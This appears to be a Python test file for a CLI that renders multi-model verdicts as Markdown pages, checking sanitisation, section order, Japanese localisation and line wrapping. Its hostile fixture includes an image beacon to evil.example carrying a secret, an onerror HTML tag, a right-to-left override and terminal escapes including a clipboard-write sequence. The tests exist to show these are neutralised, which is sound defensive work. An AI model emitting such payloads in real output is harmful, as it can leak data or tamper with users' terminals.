"""The page that `magi show` and `magi export` give: its order, its language, and what no model can do to it."""

from collections.abc import Iterator, Sequence
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from rich.cells import cell_len
from rich.console import Console
from tests.support.cli import breaks, fails, heard, says

from magisystem.cli.markup import inline, quoted
from magisystem.cli.pages import draw
from magisystem.cli.reading import markdown
from magisystem.models.embedded import NOTE
from magisystem.protocol.values import Decision, Mode

HOSTILE_TEXT = """# Verdict

APPROVED
===

> ## Deeper

1. # Listed

![pixel](https://evil.example/?secret) [click](https://evil.example) <img src=x onerror=y> <https://evil.example>
[ref]: https://evil.example
[ref] \\[escaped\\](https://evil.example) \\\\[twice\\\\](https://evil.example)
&#x202e;reversed &lt;b&gt; \x1b[2J\x1b]52;c;aGk=\x07
| a | b |
| - | - |
```
unclosed"""
# What Markdown is made of, in far higher density than chance would give.
MARKS = (
    *(
        "#",
        "##",
        ">",
        "-",
        "*",
        "+",
        "1.",
        "`",
        "```",
        "~~~",
        "\\",
        "\\\\",
        "[",
        "]",
        "](",
        "]:",
        "![",
        "<",
        ">",
        "<b",
        "</",
    ),
    *("<!", "&", "&#x202e;", "&lt;", "|", "---", "===", "\n", "\n\n", "http://x", ")", "\t", " ", "a"),
)
HOSTILE = st.lists(st.sampled_from(MARKS), max_size=25).map("".join)
PARSER = MarkdownIt("commonmark").enable("table")
FORBIDDEN = {"heading_open", "link_open", "image", "html_block", "html_inline"}


def tokens(text: str) -> Iterator[Token]:
    for token in PARSER.parse(text):
        yield token
        yield from token.children or ()


def kinds(text: str) -> set[str]:
    return {token.type for token in tokens(text)}


def headings(text: str) -> list[str]:
    parsed = PARSER.parse(text)
    return [parsed[place + 1].content for place, token in enumerate(parsed) if token.type == "heading_open"]


def drawn(page: str, width: int) -> str:
    out = StringIO()
    draw(page, Console(file=out, width=width, force_terminal=True, color_system="truecolor"))
    return out.getvalue()


@given(HOSTILE)
def test_nothing_in_a_quote_links_loads_or_poses_as_a_heading(text: str) -> None:
    page = "\n".join(["Before.", "", *quoted(text), "", "After."])
    assert not kinds(page) & FORBIDDEN
    top = [token for token in PARSER.parse(page) if token.level == 0]
    assert [token.type for token in top if token.nesting >= 0] in (
        ["paragraph_open", "blockquote_open", "paragraph_open"],
        # A quote of nothing.
        ["paragraph_open", "paragraph_open"],
    )
    assert not {token.content for token in tokens(page)} & {"\u202e"}


@given(HOSTILE)
def test_a_cell_shows_every_character_as_it_stands(text: str) -> None:
    (paragraph,) = [token for token in PARSER.parse(f"x{inline(text)}x") if token.type == "inline"]
    assert "".join(child.content for child in paragraph.children or ()) == f"x{' '.join(text.split())}x"


def test_emphasis_lists_and_code_keep_their_meaning() -> None:
    shown = kinds("\n".join(quoted("**Bold** `code`\n\n- one\n- two\n\n```\nx = 1\n```")))
    assert {"strong_open", "code_inline", "bullet_list_open", "fence"} <= shown


async def test_no_model_adds_a_heading_a_link_an_image_or_a_tag_to_the_page() -> None:
    everyone = {name: says(HOSTILE_TEXT) for name in ("caspar", "balthasar", "melchior", "solomon")}
    clean, hostile = markdown(await heard({})), markdown(await heard(everyone, HOSTILE_TEXT))
    assert headings(hostile) == headings(clean)
    assert not kinds(hostile) & (FORBIDDEN - {"heading_open"})
    assert len([token for token in tokens(hostile) if token.type == "table_open"]) <= 2 + len(everyone)
    assert not {"\x1b", "\x07", "\u202e"} & set(hostile)
    for width in (120, 30):
        on_screen = drawn(hostile, width)
        assert "\x1b]" not in on_screen
        assert "\x1b[2J" not in on_screen
        assert not {"\x07", "\u202e"} & set(on_screen)


async def test_what_limits_the_outcome_comes_before_it() -> None:
    page = markdown(await heard({"melchior": [fails], "solomon": says("No.", Decision.REJECTED)}))
    places = [
        page.index(text)
        for text in (
            "Degraded: 2 of 3 sages voted.",
            "Overturned: the judge ruled against",
            "MELCHIOR: the provider refuses the credentials",
            "scripted:model: scripted for a test",
            "**✗ REJECTED** (confidence 80%)",
            "### Summary",
            "### Recommendation",
            "## Votes",
            "2 approved, 0 rejected, 0 abstained, 1 failed",
            "## CASPAR",
            "## SOLOMON",
            "## Record",
        )
    ]
    assert places == sorted(places)


async def test_an_inconclusive_outcome_says_so_before_anything_else() -> None:
    page = markdown(await heard({"caspar": [fails], "melchior": [fails]}))
    assert page.index("Inconclusive: nothing was decided.") < page.index("**? INCONCLUSIVE**")
    assert "## SOLOMON" not in page


async def test_the_votes_stand_in_one_table_with_the_scores() -> None:
    page = markdown(await heard({"balthasar": says("No.", Decision.REJECTED, 0.62), "melchior": [fails]}))
    assert "| CASPAR | ✓ APPROVED | 80% | 70 |" in page
    assert "| BALTHASAR | ✗ REJECTED | 62% | 70 |" in page
    assert "| MELCHIOR | none |  |  |" in page


async def test_only_the_attempt_that_stands_is_shown() -> None:
    page = markdown(await heard({"caspar": [breaks, *says("Sound words.")]}))
    assert "> Sound words." in page
    assert "Void words." not in page


async def test_a_japanese_question_has_a_japanese_page() -> None:
    page = markdown(await heard({"melchior": [fails]}, "移行すべきですか？"))
    assert headings(page) == [
        "質問",
        "裁定",
        "要旨",
        "勧告",
        "理由",
        "票",
        "CASPAR",
        "BALTHASAR",
        "MELCHIOR",
        "SOLOMON",
        "記録",
    ]
    assert "賢者3名のうち2名が投票しました" in page
    assert NOTE not in page


async def test_a_chat_has_an_answer_and_no_votes() -> None:
    page = markdown(await heard({"solomon": says("Four.")}, mode=Mode.CHAT))
    assert headings(page) == ["Question", "Answer", "SOLOMON", "Record"]
    assert "> Four." in page


async def test_what_goes_on_is_shown_as_far_as_it_went() -> None:
    log = await heard({})
    page = markdown(log[:-1])
    assert "Not ended: this is what the log holds so far." in page
    for n_heard in range(len(log)):
        assert markdown(log[:n_heard]).endswith("\n")


@pytest.mark.parametrize("width", [100, 40, 12])
async def test_no_drawn_line_is_wider_than_the_terminal_and_no_word_is_lost(width: int) -> None:
    text = "移行の費用は、初年度に集中します。「戻る道」を先に用意しておくべきです。\n\n- one two three four five\n" * 2
    page = markdown(await heard({"caspar": says(text)}, "移行すべきですか？"))
    console = Console(file=StringIO(), width=width, force_terminal=True, color_system=None)
    with console.capture() as captured:
        draw(page, console)
    lines = captured.get().splitlines()
    assert max(cell_len(line.rstrip()) for line in lines) <= width
    assert not _begin_badly(lines)
    said = "".join("".join(lines).replace("▌", "").split())
    assert said.count("移行の費用は、初年度に集中します。「戻る道」を先に用意しておくべきです。") == 2


def _begin_badly(lines: Sequence[str]) -> list[str]:
    return [line for line in lines if line.removeprefix("▌ ").startswith(("、", "。", "」"))]
